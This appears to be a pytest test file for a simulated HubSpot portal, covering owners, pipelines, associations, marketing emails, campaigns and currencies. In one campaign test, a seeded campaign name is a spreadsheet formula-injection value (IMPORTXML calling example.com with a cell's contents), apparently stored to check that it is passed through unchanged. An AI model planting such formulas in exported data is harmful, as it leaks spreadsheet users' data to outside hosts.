"""
Owners, pipelines, associations, marketing and the account of the played HubSpot.
"""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote

import pytest

from tests.sandbox.hubspot_portal import CAMPAIGN, DRAFT_CAMPAIGN, Portal, running

CAMPAIGNS = "/marketing/v3/campaigns"
READ = "/crm/v4/associations/contacts/companies/batch/read"


@pytest.fixture(scope="module")
def server() -> Iterator[Portal]:
    with running() as portal:
        yield portal


@pytest.fixture
def portal(server) -> Portal:
    return server.start_over()


def test_owners_live_and_departed(portal):
    """
    One owner works here, one left; the client's trailing slash is no matter.
    """
    owners = portal.client.crm.owners.owners_api

    assert [(owner.id, owner.email) for owner in owners.get_page().results] == [("71", "eva@noria.example")]
    assert [owner.id for owner in owners.get_page(archived=True).results] == ["72"]
    assert [row["id"] for row in portal.get("/crm/owners/2026-09?email=EVA@noria.example")["results"]] == ["71"]


def test_owners_come_in_pages(portal):
    """
    Three owners in pages of two.
    """
    portal.start_over({"owners": [{"id": str(n), "email": f"o{n}@noria.example"} for n in (1, 2, 3)]})
    first = portal.get("/crm/v3/owners?limit=2")
    second = portal.get(f"/crm/v3/owners?limit=2&after={first['paging']['next']['after']}")

    assert tuple([row["id"] for row in page["results"]] for page in (first, second)) == (["1", "2"], ["3"])
    assert "paging" not in second


def test_default_pipelines_have_text_metadata(portal):
    """
    Seven deal stages, not in display order; won is closed with probability "1.0".
    """
    pipeline = portal.client.crm.pipelines.pipelines_api.get_all("deals").results[0]
    won = next(stage for stage in pipeline.stages if stage.id == "closedwon")

    assert (pipeline.id, len(pipeline.stages)) == ("default", 7)
    assert won.metadata == {"isClosed": "true", "probability": "1.0"}
    assert [stage.display_order for stage in pipeline.stages] != sorted(s.display_order for s in pipeline.stages)
    assert portal.get("/crm/v3/pipelines/contacts")["results"][0]["id"] == "contacts-lifecycle-pipeline"
    assert {"1", "2", "3", "4"} == {s["id"] for s in portal.get("/crm/v3/pipelines/tickets/0/stages")["results"]}


def test_a_renamed_pipeline_touches_its_deals(portal):
    """
    Deal 301 was last changed in February 2025; renaming its pipeline makes that today.
    """
    portal.call("PATCH", "/crm/v3/pipelines/deals/default", {"label": "New name"})

    assert portal.get("/crm/v3/objects/deals/301")["updatedAt"] > "2026"


def test_associations_through_the_official_client(portal):
    """
    101 has a primary and a plain company, 102 none: 207, one error that is none to worry about.
    """
    answer = portal.client.crm.associations.v4.batch_api.get_page(
        "contacts", "companies", {"inputs": [{"id": "101"}, {"id": "102"}]}
    )

    types = {row.to_object_id: [t.type_id for t in row.association_types] for row in answer.results[0].to}
    assert types == {"201": [1, 279], "202": [279]}
    assert (answer.num_errors, answer.errors[0].sub_category) == (1, "crm.associations.NO_ASSOCIATIONS_FOUND")
    assert answer.errors[0].message == "No company is associated with contact 102."


def test_linked_ids_are_numbers_and_seen_from_both_sides(portal):
    """
    The deal sees contact 101 by type 3, the contact the deal by type 4.
    """
    deal = portal.post("/crm/v4/associations/deals/contacts/batch/read", {"inputs": [{"id": "301"}]})
    contact = portal.get("/crm/v4/objects/contacts/101/associations/deals")

    assert [(row["toObjectId"], row["associationTypes"][0]["typeId"]) for row in deal["results"][0]["to"]] == [(101, 3)]
    assert [(row["toObjectId"], row["associationTypes"][0]["typeId"]) for row in contact["results"]] == [(301, 4)]


def test_many_links_of_one_record_come_in_pages(portal):
    """
    1,203 contacts of one company: 500, 500 and 203.
    """
    people = [{"id": str(n), "_associations": {"companies": ["7"]}} for n in range(1, 1204)]
    portal.start_over({"companies": [{"id": "7", "name": "Big"}], "contacts": people})
    sizes, after = [], None
    while after != "":
        entry = {"id": "7", **({"after": after} if after else {})}
        row = portal.post("/crm/v4/associations/companies/contacts/batch/read", {"inputs": [entry]})["results"][0]
        sizes.append(len(row["to"]))
        after = row.get("paging", {}).get("next", {}).get("after", "")

    assert sizes == [500, 500, 203]


def test_a_list_shows_the_first_hundred_links(portal):
    """
    Of 203 contacts of a deal the list shows 100, and links to the next 100 and the last three.
    """
    people = [{"id": str(n), "_associations": {"deals": ["7"]}} for n in range(1, 204)]
    portal.start_over({"deals": [{"id": "7"}], "contacts": people})
    page = portal.get("/crm/v3/objects/deals?associations=contacts")["results"][0]["associations"]["contacts"]
    sizes, ids = [], []
    while page is not None:
        sizes.append(len(page["results"]))
        ids += [row["id"] for row in page["results"]]
        link = page.get("paging", {}).get("next", {}).get("link", "")
        page = portal.get(link.removeprefix(portal.sandbox.url)) if link else None

    assert sizes == [100, 100, 3]
    assert [str(n) for n in range(1, 204)] == ids


def test_links_are_made_and_cut(portal):
    """
    102 joins company 202 by default, then leaves it.
    """
    client = portal.client.crm.associations.v4.basic_api
    client.create_default("contacts", "102", "companies", "202")
    linked = portal.get("/crm/v4/objects/contacts/102/associations/companies")["results"]
    client.archive("contacts", "102", "companies", "202")

    assert [(row["toObjectId"], [t["typeId"] for t in row["associationTypes"]]) for row in linked] == [(202, [279])]
    assert portal.get("/crm/v4/objects/contacts/102/associations/companies")["results"] == []


def test_bad_ids_and_labels_of_associations(portal):
    """
    A word is no id; the labels of contact and company are primary and plain.
    """
    answer = portal.post(READ, {"inputs": [{"id": "abc"}]}, 207)
    labels = portal.get("/crm/v4/associations/contacts/companies/labels")["results"]

    assert answer["errors"][0]["subCategory"] == "crm.associations.INVALID_IDENTIFIER"
    assert [(label["typeId"], label["label"]) for label in labels] == [(1, "Primary"), (279, None)]


def test_emails_with_statistics_leave_the_unsent_out(portal):
    """
    Two e-mails, of which the draft is only listed without statistics; 443 of 704 opens are 62.926 percent.
    """
    emails = portal.client.marketing.emails.marketing_emails_api
    with_stats, without = emails.get_page(include_stats=True), emails.get_page()

    assert {"601", "602"} == {email.id for email in without.results}
    assert [email.id for email in with_stats.results] == ["601"]
    assert (
        with_stats.results[0].stats.counters["open"],
        with_stats.results[0].stats.ratios["openratio"],
    ) == (443, 62.926)


def test_email_cursor_may_come_back_encoded_or_decoded(portal):
    """
    The cursor is percent-encoded base64; sent as it is or encoded once more it means the same page.
    """
    after = portal.get("/marketing/v3/emails?limit=1")["paging"]["next"]["after"]
    pages = [portal.get(f"/marketing/v3/emails?limit=1&after={text}") for text in (after, quote(after, safe=""))]

    assert after == "MQ%3D%3D"
    assert pages[0]["results"] == pages[1]["results"]
    assert "paging" not in pages[0]


@pytest.mark.parametrize(
    ("query", "found"),
    [
        ("publishedAfter=2025-03-05T09:00:00Z", set()),
        ("publishedBefore=2025-03-06", {"601"}),
        ("isPublished=False", {"602"}),
        (f"campaign={CAMPAIGN}", {"601"}),
        ("archived=true", set()),
    ],
)
def test_filters_of_emails(portal, query, found):
    """
    After and Before leave their own instant out.
    """
    assert found == {email["id"] for email in portal.get(f"/marketing/v3/emails?{query}")["results"]}


def test_email_statistics_of_a_span(portal):
    """
    One e-mail in March 2025: its counters, and a histogram of three months with one filled.
    """
    span = "startTimestamp=2025-02-01T00:00:00Z&endTimestamp=2025-05-01T00:00:00Z"
    sums = portal.get(f"/marketing/v3/emails/statistics/list?{span}&property=open")
    histogram = portal.get(f"/marketing/v3/emails/statistics/histogram?interval=MONTH&{span}")

    assert (sums["emails"], sums["aggregate"]["counters"]["sent"]) == ([601], 710)
    assert [r["aggregations"]["counters"] and r["aggregations"]["counters"]["open"] for r in histogram["results"]] == [
        {},
        443,
        {},
    ]


def test_campaigns_come_in_pages_with_the_properties_asked_for(portal):
    """
    Unknown names are ignored, empty ones left out; the cursor works encoded and decoded.
    """
    first = portal.get(f"{CAMPAIGNS}?limit=1&properties=hs_name,hs_end_date,mine&sort=-hs_name")
    after = first["paging"]["next"]["after"]
    second = [
        portal.get(f"{CAMPAIGNS}?limit=1&properties=hs_name,hs_end_date&sort=-hs_name&after={text}")["results"]
        for text in (after, quote(after, safe=""))
    ]

    assert (first["total"], first["results"][0]["id"]) == (2, CAMPAIGN)
    assert first["results"][0]["properties"] == {"hs_name": "Spring", "hs_end_date": "2025-03-31"}
    assert [row["properties"] for row in second[0]] == [{"hs_name": '=IMPORTXML("https://example.com/?"&A1)'}]
    assert second[0] == second[1]


def test_campaign_refusals(portal):
    """
    Another hs_ name is a 400, as is an id that is no GUID; an unknown GUID is a 404.
    """
    paths = ("?properties=hs_budget_secret", "/17", f"/{CAMPAIGN[:-1]}9", f"/{CAMPAIGN}/assets/NONSENSE")

    assert [portal.call("GET", CAMPAIGNS + path).status for path in paths] == [400, 400, 404, 400]


def test_campaign_budget_metrics_and_assets(portal):
    """
    300.5 + 50 spent of 500 leave 149.5; contact 101 came by this campaign; e-mail 601 belongs to it.
    """
    totals = portal.get(f"{CAMPAIGNS}/{CAMPAIGN}/budget/totals")
    metrics = portal.get(f"{CAMPAIGNS}/{CAMPAIGN}/reports/metrics?startDate=2025-01-01&endDate=2025-01-31")
    later = portal.get(f"{CAMPAIGNS}/{CAMPAIGN}/reports/metrics?startDate=2025-02-01")
    assets = portal.get(f"{CAMPAIGNS}/{CAMPAIGN}/assets/MARKETING_EMAIL?startDate=2025-03-01&endDate=2025-03-31")

    assert tuple(totals[key] for key in ("spendTotal", "budgetTotal", "remainingBudget", "currencyCode")) == (
        350.5,
        500.0,
        149.5,
        "EUR",
    )
    assert [(item["name"], item["amount"], item["createdAt"]) for item in totals["spendItems"][:1]] == [
        ("Ads", 300.5, 1740873600000)
    ]
    assert (metrics["newContactsFirstTouch"], later["newContactsFirstTouch"]) == (1, 0)
    assert [(asset["id"], asset["metrics"]["DELIVERED"]) for asset in assets["results"]] == [("601", 704)]
    assert portal.get(f"{CAMPAIGNS}/{DRAFT_CAMPAIGN}/budget/totals")["spendTotal"] == 0


def test_campaign_batch_names_bad_ids(portal):
    """
    A GUID and a word: 207, one result and one error.
    """
    answer = portal.post(f"{CAMPAIGNS}/batch/read?properties=hs_name", {"inputs": [{"id": CAMPAIGN}, {"id": "x"}]}, 207)

    assert (len(answer["results"]), answer["errors"][0]["subCategory"]) == (1, "CampaignApiError.INVALID_REQUEST")


def test_account_details(portal):
    """
    Madrid in winter or summer, euros, and no other currency in the deals.
    """
    details = portal.get("/account-info/v3/details")

    assert (
        details["timeZone"],
        details["companyCurrency"],
        details["additionalCurrencies"],
    ) == ("Europe/Madrid", "EUR", [])
    assert details["utcOffset"] in ("+01:00", "+02:00")
    assert details["utcOffsetMilliseconds"] == int(details["utcOffset"][2]) * 3_600_000


def test_currencies_come_from_the_deals(portal):
    """
    A deal in dollars at 0.9 makes dollars a currency of the account.
    """
    deal = {"id": "1", "amount": "10", "deal_currency_code": "USD", "hs_exchange_rate": "0.9"}
    portal.start_over({"deals": [deal]})
    rates = portal.get("/settings/v3/currencies/exchange-rates/current")["results"]

    assert portal.get("/account-info/2026-09/details")["additionalCurrencies"] == ["USD"]
    assert portal.get("/settings/v3/currencies/company-currency")["currencyCode"] == "EUR"
    assert [(r["fromCurrencyCode"], r["toCurrencyCode"], r["conversionRate"]) for r in rates] == [("USD", "EUR", 0.9)]
